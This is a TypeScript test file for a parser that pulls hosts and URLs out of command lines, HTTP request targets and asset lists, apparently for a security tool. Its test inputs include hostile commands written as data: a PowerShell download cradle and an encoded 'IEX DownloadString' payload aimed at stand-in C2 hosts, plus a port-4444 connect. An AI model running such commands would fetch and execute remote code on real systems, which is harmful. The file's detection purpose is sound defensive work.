import fc from 'fast-check';
import { expect, test } from 'vitest';
import { readAssetList } from './asset-list.ts';
import { namedTargets } from './named-targets.ts';
import { readTarget } from './request-target.ts';

const names = (text: string) => namedTargets(text).map(({ name }) => name);

test('what a command line names', () => {
  expect(names('curl -s https://Cdn.Example.org:8443/a?b=1 -o x')).toContain('cdn.example.org');
  expect(namedTargets('iwr "http://203.0.113.9/p.ps1"')[0]).toEqual({
    name: '203.0.113.9',
    url: 'http://203.0.113.9/p.ps1',
  });
  expect(names('nslookup c2.example.net.')).toEqual([]);
  expect(names('ping c2.example.net')).toEqual(['c2.example.net']);
  expect(names('connect 203.0.113.9:4444')).toEqual(['203.0.113.9']);
  const code = Buffer.from(
    "IEX (New-Object Net.WebClient).DownloadString('http://c2.example.org/x')",
    'utf16le',
  );
  expect(names(`powershell -nop -enc ${code.toString('base64')}`)).toContain('c2.example.org');
});

test('where a request goes', () => {
  expect(readTarget('http://user:pw@Example.ORG/x?y')).toEqual({ host: 'example.org', port: 80 });
  expect(readTarget('https://[2001:db8::1]:8443/')).toEqual({ host: '2001:db8::1', port: 8443 });
  expect(readTarget('example.org:443', 'CONNECT')).toEqual({ host: 'example.org', port: 443 });
  expect(readTarget('error:invalid-request', 'GET')).toBe(undefined);
  expect(readTarget('/path', 'GET')).toBe(undefined);
  expect(readTarget('example.org:99999', 'CONNECT')).toBe(undefined);
});

test('a list of assets', () => {
  const text = 'address,host\n10.0.0.5,WS-5\n# note\n10.0.0.6;ws-6.example;old\nnonsense\n';
  const { sightings, unread } = readAssetList(text, ['ws-5.example']);
  expect(sightings.map(({ address, host }) => [address, host])).toEqual([
    ['10.0.0.5', 'ws-5.example'],
    ['10.0.0.6', 'ws-6.example'],
  ]);
  expect(unread).toEqual([5]);
});

test('any text is read in bounded time, and gives bounded targets', () => {
  fc.assert(
    fc.property(
      fc.string({ maxLength: 400 }),
      fc.constantFrom('a.', '-', ' -e ', 'http://', '1.', '['),
      (text, unit) => {
        expect(namedTargets(text + unit.repeat(20_000)).length).toBeLessThanOrEqual(200);
        readTarget(text + unit.repeat(2_000));
      },
    ),
    { numRuns: 40 },
  );
});
